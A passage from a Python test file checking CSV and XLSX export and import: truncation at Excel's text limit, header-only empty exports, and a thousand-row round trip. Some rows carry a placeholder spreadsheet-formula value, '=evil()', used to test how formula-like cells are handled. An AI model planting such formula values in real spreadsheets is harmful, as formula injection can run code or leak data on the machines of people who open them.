    rows = read_table(data, "a.xlsx", COLUMNS)
    assert rows[0].values["name"] == "bell\ufffd"
    note = rows[0].values["note"]
    assert len(note) == tabular.text.EXCEL_MAX_TEXT and note.endswith("[truncated]")


def test_empty_export_has_a_header_only():
    for writer, filename in ((write_csv, "a.csv"), (write_xlsx, "a.xlsx")):
        data = writer(("name", "sector"), [])
        assert read_table(data, filename, COLUMNS, REQUIRED) == []


@pytest.mark.parametrize(("writer", "filename"), [(write_csv, "big.csv"), (write_xlsx, "big.xlsx")])
def test_a_thousand_rows(writer, filename):
    source = ([f"系统 {i}", "政务" if i % 2 else "=evil()", i, f"备注 {i}" * 3] for i in range(1000))
    data = writer(EXPORT_COLUMNS, source)
    rows = read_table(data, filename, EXPORT_COLUMNS, ("name",))
    assert len(rows) == 1000
    assert rows[-1].number == 1001
    assert rows[999].values == {"name": "系统 999", "sector": "政务", "level": "999", "note": "备注 999" * 3}
    assert rows[0].values["sector"] == "=evil()" and rows[0].problems == {}
